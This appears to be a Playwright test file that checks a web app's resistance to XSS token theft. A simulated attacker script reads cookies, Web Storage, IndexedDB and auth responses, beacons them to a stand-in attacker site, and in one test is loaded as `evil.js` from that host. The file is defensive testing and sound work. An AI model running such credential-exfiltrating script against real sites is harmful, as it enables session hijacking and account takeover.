import type { BrowserContext } from '@playwright/test';
import { collectedLoot, newRunId, type Loot } from '../support/attacker.js';
import { cookieValue } from '../support/browser-app.js';
import { sites } from '../support/environment.js';
import { expect, test } from '../support/fixtures.js';
import { ACCESS_COOKIE, REFRESH_COOKIE, SESSION_COOKIE } from '../support/modes.js';
import { credentialCandidates, replayAccepted, replayCookieHeader } from '../support/replay.js';
import { scorecard } from '../support/scorecard.js';
import { ServerState } from '../support/server-state.js';
import { signedInBrowser, signOut } from '../support/sign-in.js';

// XSS token theft. The attacker's script runs in a signed-in page (the app's test-only XSS
// page, or the SPA), takes everything script can reach — document.cookie, Web Storage,
// IndexedDB, string globals, the body of every auth response it can fetch, a refresh
// included — and beacons it to the attacker's site. The test replays all of it from a clean
// client. HttpOnly is what is on trial: the page plays a CSP that has already been bypassed.

/** The parts of the loot that script merely READ, as opposed to minted by calling the API. */
function readParts(loot: Loot) {
  return {
    cookie: loot.cookie,
    cookieAfter: loot.cookieAfter,
    localStorage: loot.localStorage,
    sessionStorage: loot.sessionStorage,
    indexedDB: loot.indexedDB,
    globals: loot.globals,
  };
}

for (const mode of ['session', 'jwt-cookie'] as const) {
  test(
    `${mode}: XSS in a signed-in page takes everything script can reach, and none of it signs anyone in elsewhere`,
    scorecard('xss', mode, 'Blocked: nothing script can read or fetch authenticates elsewhere'),
    async ({ contexts }) => {
      const { context, page, server, account } = await signedInBrowser(contexts, mode);
      const held = await credentialValues(context, server.origin);
      const run = newRunId();
      await page.goto(`${server.origin}/__test/xss?attacker=${encodeURIComponent(sites().attacker)}&run=${run}`);
      const loot = await collectedLoot(run);

      // The payload ran as the user: it read /me with the victim's ambient cookie.
      const me = loot.responses.find((response) => response.path === '/api/auth/me');
      expect(me?.status).toBe(200);
      expect(me?.body).toContain(account.email);
      // No credential the browser held, before or after the payload's own refresh, is in it.
      const everything = JSON.stringify(loot);
      for (const value of [...held, ...(await credentialValues(context, server.origin))]) {
        expect(everything).not.toContain(value);
      }

      const candidates = credentialCandidates(loot);
      expect(candidates.length).toBeGreaterThan(3);
      expect(await replayAccepted(server, candidates)).toEqual([]);
      expect(await replayCookieHeader(server, loot.cookie)).toBe(401);

      const state = new ServerState(server);
      try {
        // No looted string is (the hash of) any credential the server holds.
        for (const candidate of candidates) {
          expect(state.sessionOfCookie(candidate)).toBeUndefined();
          expect(state.familyOfRefreshToken(candidate)).toBeUndefined();
        }
        // The user's credential was live the whole time: the loot missed it, not the other way round.
        if (mode === 'session') {
          expect(state.sessions(account.userId)).toHaveLength(1);
        } else {
          expect(state.liveFamilies(account.userId)).toHaveLength(1);
        }
      } finally {
        state.close();
      }
    },
  );
}

/** The credential cookies the browser holds for the app now (HttpOnly included: the jar). */
async function credentialValues(context: BrowserContext, origin: string): Promise<string[]> {
  const jar = await context.cookies([origin, `${origin}/api/auth/refresh`]);
  const names = new Set<string>([SESSION_COOKIE, ACCESS_COOKIE, REFRESH_COOKIE]);
  return jar.filter((cookie) => names.has(cookie.name)).map((cookie) => cookie.value);
}

test(
  'memory-token: XSS in the SPA finds no token in any storage, but can mint a short-lived access token until logout',
  scorecard(
    'xss',
    'memory-token',
    'Partly exposed: no token in any storage or cookie, but script can mint a 10-min access token via /refresh; revoked at logout',
    { residual: true },
  ),
  async ({ contexts }) => {
    const { context, page, server, account } = await signedInBrowser(contexts, 'memory-token');
    const run = newRunId();
    // A stored XSS in the SPA: a script tag from the attacker's site.
    await page.addScriptTag({
      url: `${sites().attacker}/evil.js?run=${run}&api=${encodeURIComponent(server.origin)}`,
    });
    const loot = await collectedLoot(run);

    // Nothing the script could READ authenticates: storage, cookies, globals.
    const read = credentialCandidates(readParts(loot));
    expect(await replayAccepted(server, read)).toEqual([]);
    const refreshCookie = await cookieValue(context, server, REFRESH_COOKIE);
    expect(JSON.stringify(loot)).not.toContain(refreshCookie);

    // What it FETCHED: the refresh endpoint answers the SPA's origin with a fresh access token.
    const minted = loot.responses.find((response) => response.path === '/api/auth/refresh');
    expect(minted?.status).toBe(200);
    const accepted = await replayAccepted(server, credentialCandidates(loot.responses));
    const mintedToken = (JSON.parse(minted?.body ?? '{}') as { access_token?: string }).access_token;
    // Exactly that token works elsewhere (as a Bearer token; the server also takes it as an
    // access cookie, which this mode never sets).
    expect(mintedToken).toBeDefined();
    expect(accepted.length).toBeGreaterThan(0);
    expect(new Set(accepted.map(({ candidate }) => candidate))).toEqual(new Set([mintedToken]));

    // When the user signs out, the stolen token dies with the family, at once.
    await signOut(page, 'memory-token');
    expect(await replayAccepted(server, credentialCandidates(loot))).toEqual([]);
    const state = new ServerState(server);
    try {
      expect(state.liveFamilies(account.userId)).toEqual([]);
      expect(state.familyOfRefreshToken(refreshCookie)?.revoked_at).not.toBeNull();
    } finally {
      state.close();
    }
  },
);
